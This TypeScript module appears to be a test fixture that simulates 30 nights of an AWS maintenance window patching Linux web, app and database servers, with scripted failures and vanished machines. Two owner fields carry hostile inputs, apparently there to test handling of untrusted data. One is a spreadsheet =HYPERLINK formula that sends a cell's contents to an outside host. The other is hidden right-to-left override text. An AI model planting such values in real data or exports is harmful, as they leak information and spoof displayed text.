import type { WindowPlan } from "../../../plan.ts";
import { functionArn, roleArn, type Account } from "../account.ts";
import { forgotten } from "../action.ts";
import { runCommand } from "../command.ts";
import { runPatchBaseline, shellScript } from "../documents.ts";
import type { EndingName } from "../endings/index.ts";
import type { ExecutionRecipe, InvocationRecipe } from "../recipe.ts";
import type { TaskWords } from "../task-words.ts";
import { invokeLambda, lambdaParameters } from "../function-call.ts";
import type { Machine } from "../fleet.ts";
import { byIds, byTag, withMachines, type Group } from "../group.ts";
import { passingTroubles, troublesOn } from "../troubles.ts";
import { cronDaily, DAY, every, HOUR, momentText } from "../when.ts";
import { windowPlan } from "../window.ts";
import { linuxPatchResults, linuxStory } from "./linux-story.ts";

const NIGHTS = 30;
/** Commands older than this are gone from Run Command, though the window still remembers that they ran. */
const REMEMBERED_NIGHTS = 28;
/** The last night on which everything passed; what `diff` compares with. */
const LAST_GOOD_NIGHT = 6;

/** Patches 180 Linux machines every night; a few of them fail again and again. */
export const linuxPatchWindow = (account: Account): WindowPlan => {
  const { chance, fleet, hour } = account;
  const first = hour - 7 * HOUR;
  const web = byTag("web-prod", "PatchGroup", "web-prod", fleet.called("web-prod"), {
    OwnerInformation: "team-web; pager 4711",
    Description: "Front ends",
  });
  const app = byTag("app-prod", "PatchGroup", "app-prod", fleet.called("app-prod"), {
    OwnerInformation: '=HYPERLINK("https://example.invalid/?"&A1,"team-app")',
    Description: "Application servers",
  });
  const databases = fleet.called("db-prod", "db-eu");
  const database = byIds("databases", databases, {
    OwnerInformation: "Datenbank-Team <dba@example.com> \u202Eatabrevo\u202C",
    Description: "PostgreSQL, by id: never by tag",
  });
  const verifyServices = shellScript("set -e", "/opt/ops/verify-services.sh --strict");
  const everyone = [...web.machines, ...app.machines, ...databases];
  const slow = new Set(["db-eu-05", "web-prod-033"]);

  const nightly = (night: number): ExecutionRecipe => {
    const troubles =
      night === LAST_GOOD_NIGHT
        ? new Map<string, EndingName>()
        : new Map<string, EndingName>([
            ...troublesOn(night, linuxPatchResults),
            ...passingTroubles(everyone, chance.draw(`linux/${night}`)),
            ...troublesOn(night, linuxStory),
          ]);
    const patch = (target: Group, vanished: readonly Machine[] = []): InvocationRecipe => {
      const group = withMachines(target, present(target.machines, night));
      const action = runCommand({
        document: runPatchBaseline,
        group,
        troubles,
        vanished,
        ...(night <= 1 && { slow }),
      });
      return { target, action: night < REMEMBERED_NIGHTS ? action : forgotten(action) };
    };
    const verify = runCommand({
      document: verifyServices,
      group: withMachines(database, present(database.machines, night)),
      troubles: troublesOn(night, [
        { machines: "db-eu-03", ending: "diskFullJapanese", from: 3, to: 1 },
        { machines: "db-eu-03 db-prod-07", ending: "unitFailed", from: 0, to: 0 },
      ]),
    });
    return {
      key: night,
      start: first - night * DAY,
      tasks: [
        {
          task: patchTask,
          minutes: 75,
          invocations: [
            patch(web),
            patch(app),
            patch(database, night > 0 ? [] : databases.filter(({ name }) => name === GONE_DATABASE)),
          ],
        },
        {
          task: verifyTask,
          minutes: 6,
          // Last night's verification failed and Run Command has lost the command: nobody can say on which machines.
          invocations: [
            {
              target: database,
              action: night === 0 || night >= REMEMBERED_NIGHTS ? forgotten(verify) : verify,
            },
          ],
        },
        {
          task: notifyTask,
          minutes: 0.25,
          invocations: [{ action: invokeLambda(notification) }],
        },
      ],
    };
  };

  return windowPlan(account, {
    window: {
      Name: "linux-patch-nightly",
      Description: "Security patches for web, app and database servers. Questions: team-platform.",
      Schedule: cronDaily(first),
      ScheduleTimezone: "Etc/UTC",
      Duration: 4,
      Cutoff: 1,
      AllowUnassociatedTargets: false,
      Enabled: true,
      NextExecutionTime: momentText(first + DAY + 596),
    },
    groups: [web, app, database],
    tasks: [
      { task: patchTask, on: [web, app, database] },
      { task: verifyTask, on: [database] },
      { task: notifyTask, on: [] },
    ],
    executions: Array.from({ length: NIGHTS }, (_, night) => nightly(night)),
    schedule: every(DAY, first + DAY, 14),
  });
};

/** Terminated before last night, so in none of its lists. */
export const GONE_WEB = "web-prod-044";
/** Terminated last night while the command was made: its parameters name the machine, its invocations do not. */
export const GONE_DATABASE = "db-prod-24";

const present = (machines: readonly Machine[], night: number): readonly Machine[] =>
  machines.filter(({ name }) => night > 0 || (name !== GONE_WEB && name !== GONE_DATABASE));

const patchTask: TaskWords = {
  Name: "install-patches",
  Description: "Install what the baseline approves, reboot by hand",
  TaskArn: "AWS-RunPatchBaseline",
  Type: "RUN_COMMAND",
  Priority: 1,
  MaxConcurrency: "20%",
  MaxErrors: "100%",
  ServiceRoleArn: roleArn("MaintenanceWindowRole"),
  CutoffBehavior: "CONTINUE_TASK",
  TaskParameters: { Operation: { Values: ["Install"] }, RebootOption: { Values: ["NoReboot"] } },
  LoggingInfo: { S3BucketName: "example-patch-logs", S3KeyPrefix: "linux/nightly", S3Region: "eu-central-1" },
};

const verifyTask: TaskWords = {
  Name: "verify-services",
  TaskArn: "AWS-RunShellScript",
  Type: "RUN_COMMAND",
  Priority: 2,
  MaxConcurrency: "10",
  MaxErrors: "5",
  ServiceRoleArn: roleArn("MaintenanceWindowRole"),
  TaskParameters: { commands: { Values: ["set -e", "/opt/ops/verify-services.sh --strict"] } },
};

const notification = { channel: "#patching", window: "linux-patch-nightly" };

const notifyTask: TaskWords = {
  Name: "tell-the-channel",
  TaskArn: functionArn("patch-notifier"),
  Type: "LAMBDA",
  Priority: 3,
  MaxConcurrency: "1",
  MaxErrors: "1",
  ServiceRoleArn: roleArn("MaintenanceWindowRole"),
  TaskInvocationParameters: lambdaParameters(notification),
};
